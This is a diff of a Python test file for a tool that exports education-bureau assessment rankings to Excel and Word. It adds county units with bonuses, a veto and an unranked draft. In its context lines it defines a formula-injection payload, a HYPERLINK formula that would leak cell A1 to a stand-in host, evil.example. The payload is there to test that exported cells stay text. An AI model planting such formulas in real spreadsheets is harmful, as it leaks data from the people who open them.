@@ -5,6 +5,7 @@ from __future__ import annotations
 import datetime as dt
 import io
 import re
+from dataclasses import replace
 from decimal import Decimal
 from pathlib import Path
 from typing import Any
@@ -26,7 +27,7 @@ from duban.assessment.rules import (
     subject_result,
 )
 from duban.assessment.selectors import Results
-from duban.plans.models import Plan
+from duban.plans.models import Plan, PlanStatus
 from duban.reports.tests.rendering import ARTIFACTS, needs_soffice, render_pdf
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
@@ -66,7 +67,7 @@ def make_results() -> Results:
         )
         for n, (name, done, total) in enumerate(UNITS)
     ]
-    plan = Plan(title="2025年全市教育工作要点", issuer="A市教育局")
+    plan = Plan(title="2025年全市教育工作要点", issuer="A市教育局", status=PlanStatus.PUBLISHED)
     return Results(
         plan=plan,
         scheme=SCHEME,
@@ -76,6 +77,45 @@ def make_results() -> Results:
         units=ranked(SCHEME, [subject_result(SCHEME, s, [Q1, Q2]) for s in subjects]),
         organizations=[],
     )
+
+
+COUNTY_PRAISE = "加分：承接任务推进有力。（表扬，市政府督查通报第5期）"
+COUNTY_VETO = "一票否决：发生重大安全责任事故。（其他）"
+COUNTY_DRAFT = "未签收，承接方案尚未发布，不参加排名"
+
+
+def with_counties() -> Results:
+    """The five units and three counties: 甲县 praised (加 2 分), 乙县 vetoed, 丙县's plan still a draft."""
+    results = make_results()
+    figures: dict[str, dict[str, Figure]] = {
+        p.label: {ItemKind.COMPLETION: Figure(Decimal(1), 2), ItemKind.REPORTS_ON_TIME: Figure(Decimal(3), 3)}
+        for p in (Q1, Q2)
+    }
+    counties = [
+        SubjectFigures(
+            key="organization:1",
+            name="甲县教育局",
+            kind="organization",
+            figures=figures,
+            adjustments=(Adjustment(Decimal("2.00"), reason=COUNTY_PRAISE),),
+        ),
+        SubjectFigures(
+            key="organization:2",
+            name="乙县教育局",
+            kind="organization",
+            figures=figures,
+            adjustments=(Adjustment(Decimal(0), veto=True, reason=COUNTY_VETO),),
+        ),
+        SubjectFigures(
+            key="organization:3",
+            name="丙县教育局",
+            kind="organization",
+            figures={},
+            exclusion=COUNTY_DRAFT,
+        ),
+    ]
+    organizations = ranked(SCHEME, [subject_result(SCHEME, s, [Q1, Q2]) for s in counties])
+    return replace(results, organizations=organizations)
 
 
 def test_the_workbook_is_text_only_even_where_a_name_or_reason_reads_like_a_formula():
@@ -125,7 +165,8 @@ def test_the_circular_prints_on_a4_with_its_masthead_ranking_and_grades(tmp_path
         "良好（2个）：办公室、计财处。",
         "合格（1个）：+SUM(A1:A9)。",
         "一票否决：市教育考试院。",
-        "三、有关要求",
+        "二、加分、扣分和一票否决",
+        "四、有关要求",
         "2025年7月10日印发",
     ):
         assert expected in text, expected
@@ -148,4 +189,45 @@ def test_the_workbook_prints_from_libreoffice_with_every_name_and_source_readabl
 
     wanted = ("《2025年全市教育工作要点》考核结果", "2（并列）", "+SUM(A1:A9)", "3/4项（75.00%）", "一票否决")
     for expected in wanted:
+        assert expected in text, expected
+
+
+def test_the_workbook_gives_a_countys_entries_beside_its_score_and_why_a_county_has_none():
+    book = load_workbook(io.BytesIO(results_xlsx(with_counties())))
+    summary = [[c.value for c in row] for row in book["考核结果"].iter_rows(min_row=3)]
+    detail = [[c.value for c in row] for row in book["得分明细"].iter_rows(min_row=2)]
+
+    counties = [(r[0], r[2], r[5], r[8], r[9], r[10]) for r in summary if r[1] == "下级组织"]
+    assert counties == [
+        ("1", "甲县教育局", "75.00", "77.00", "合格", None),
+        ("不参加排名", "丙县教育局", None, None, None, COUNTY_DRAFT),  # the unranked by name: 丙 before 乙
+        ("一票否决", "乙县教育局", "75.00", "75.00", "合格", None),
+    ]
+    assert ["丙县教育局", None, None, "不参加排名", None, COUNTY_DRAFT, None] in detail
+    assert not [row for row in detail if row[0] == "丙县教育局" and row[1]]  # no item rows of 0
+    assert ["甲县教育局", None, None, "加扣分", None, COUNTY_PRAISE, "+2.00"] in detail
+    assert ["乙县教育局", None, None, "加扣分", None, COUNTY_VETO, "否决"] in detail
+
+
+def test_the_circular_lists_each_entry_and_the_counties_ranking_with_their_points(tmp_path: Path):
+    needs_soffice()
+    source = tmp_path / "assessment-circular-counties.docx"
+    source.write_bytes(results_docx(with_counties(), issuer="A市教育局", issued_on=dt.date(2025, 7, 10)))
+
+    with pdfplumber.open(render_pdf(source, tmp_path)) as pdf:
+        text = re.sub(r"\s+", "", "".join(p.extract_text() or "" for p in pdf.pages))
+
+    for expected in (
+        "各牵头单位和承接任务的下级组织",
+        "二、下级组织考核排名",
+        "1甲县教育局75.002.000.0077.00合格",
+        "三、加分、扣分和一票否决",
+        "甲县教育局加分：承接任务推进有力。（表扬，市政府督",  # the reason wraps in its cell
+        "+2.00",
+        "乙县教育局一票否决：发生重大安全责任事故。（其他）否决",
+        "下级组织合格（1个）：甲县教育局。",
+        "下级组织一票否决：乙县教育局。",
+        f"丙县教育局：{COUNTY_DRAFT}。",
+        "五、有关要求",
+    ):
         assert expected in text, expected
